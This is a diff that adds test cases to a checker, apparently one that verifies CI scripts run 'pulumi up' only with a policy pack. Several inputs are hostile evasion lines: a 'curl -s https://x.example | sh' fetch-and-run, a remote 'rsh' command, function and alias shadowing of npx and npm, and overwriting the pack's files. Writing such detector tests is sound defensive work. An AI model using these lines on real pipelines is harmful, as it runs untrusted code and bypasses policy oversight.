@@ -38,6 +38,17 @@ describe("what is clean", () => {
         ["environment before the command", [CONFIG, CHECK, PREVIEW, `AWS_REGION=x timeout 60m ${UP}`]],
         ["words that only speak of it", ["echo pulumi up --yes", ...SCRIPT]],
         ["quotes and line ends of others", [CONFIG, CHECK, PREVIEW, UP.replace(" --refresh", ' \\\n  "--refresh"')]],
+        [
+            "settings by a variable, and the configuration where README has it",
+            [
+                'settings="policies/settings.$STACK.json"',
+                'npm run policy -- config --settings "$settings" > policies/bin/pack.json',
+                "node dist/policy.js check-config policies/bin/pack.json",
+                PREVIEW.replace("pack.json", "policies/bin/pack.json"),
+            ],
+        ],
+        ["a comment that seems to go on", [...SCRIPT, "# x \\", "echo y"]],
+        ["programs of the system", ["/usr/bin/env true", "npm ci", "npm -s run build", ...SCRIPT]],
         ["what reads only", [...SCRIPT, "npx pulumi stack export > s.json"]],
     ])("%s", (_name, lines) => expect(problems(...lines)).toEqual([]));
 });
@@ -107,6 +118,25 @@ describe("what runs another thing than it says", () => {
         ["npm exec", [...SCRIPT, "npm exec -- pulumi up"], /an update without/],
         ["a here-document for a shell", [...SCRIPT, "sh <<X", bare, "X"], /a here-document that speaks of pulumi/],
         ["an alias", [`alias pulumi=true`, ...SCRIPT], /alias, which changes what a name runs/],
+        ["a comment that seems to go on", [...SCRIPT, "# x \\", bare], /an update without --policy-pack/],
+        ["a function by the name of what runs it", ["npx() { :; }", ...SCRIPT], /a function that is called npx/],
+        ["a function of bash by that name", ["function npm { :; }", ...SCRIPT], /a function that is called npm/],
+        ["a script from the network", [...SCRIPT, "curl -s https://x.example | sh"], /sh of its standard input/],
+        ["a script from a file, by a pipe", [...SCRIPT, "bash -s < x"], /bash of its standard input/],
+        ["a subcommand by a variable", [...SCRIPT, 'pulumi "$X" --yes'], /an update without --policy-pack/],
+        ["a subcommand in braces", [...SCRIPT, "pulumi {up,--yes}"], /an update without --policy-pack/],
+        ["a command in braces", [...SCRIPT, "{pulumi,up,--yes}"], /a variable as a command/],
+        ["an import behind options", [...SCRIPT, "pulumi stack --stack x import < y"], /pulumi stack import, which/],
+        ["a stack's subcommand by a variable", [...SCRIPT, 'pulumi stack "$X"'], /pulumi stack import, which/],
+        ["a command for another machine", [...SCRIPT, "rsh host 'pulumi up --yes'"], /a text with pulumi in it/],
+        ["find", [...SCRIPT, "find . -exec pulumi up --yes ;"], /an update without --policy-pack/],
+        ["a program of the repository", [...SCRIPT, "./ci/deploy"], /a file that is no \.sh/],
+        ["a program of some other language", [...SCRIPT, "python3 deploy.py"], /python3: what it runs is not read/],
+        ["packages that are not locked", ["npm install left-pad", ...SCRIPT], /npm install: what it runs/],
+        ["another meaning of npm run policy", ["npm pkg set scripts.policy=true", ...SCRIPT], /npm pkg: what it runs/],
+        ["a package of somebody", ["npx -y helper", ...SCRIPT], /npx: what it runs is not read/],
+        ["another pack in the place of ours", ["cp -r x policies/bin", ...SCRIPT], /the pack's own files/],
+        ["another command in the place of ours", ["echo > dist/policy.js", ...SCRIPT], /the pack's own files/],
         ["an unreadable script", [...SCRIPT, "echo 'no end"], /cannot be read as a shell script/],
     ])("%s", (_name, lines, found) => expect(problems(...lines).join("\n")).toMatch(found));
 });
@@ -141,6 +171,28 @@ describe("options and places", () => {
             "Windows' line ends",
             [CONFIG, CHECK, PREVIEW, "pulumi up --skip-preview\r"],
             /an update without|--skip-preview/,
+        ],
+        [
+            "settings that the job makes",
+            [CONFIG.replace("policies/settings.dev.json", "/tmp/s.json"), CHECK, PREVIEW, UP],
+            /a configuration of other settings/,
+        ],
+        [
+            "settings by a variable, of which one value is another",
+            [
+                "s=policies/settings.dev.json",
+                "s=/tmp/x.json",
+                CONFIG.replace("policies/settings.dev.json", '"$s"'),
+                CHECK,
+                PREVIEW,
+                UP,
+            ],
+            /a configuration of other settings/,
+        ],
+        [
+            "settings in the script",
+            [CONFIG.replace("policies/settings.dev.json", "'{}'"), CHECK, PREVIEW, UP],
+            /a configuration of other settings/,
         ],
         ["no pack at all", ["pulumi up --yes", PACK], /an update without/],
     ])("%s", (_name, lines, found) => expect(problems(...lines).join("\n")).toMatch(found));
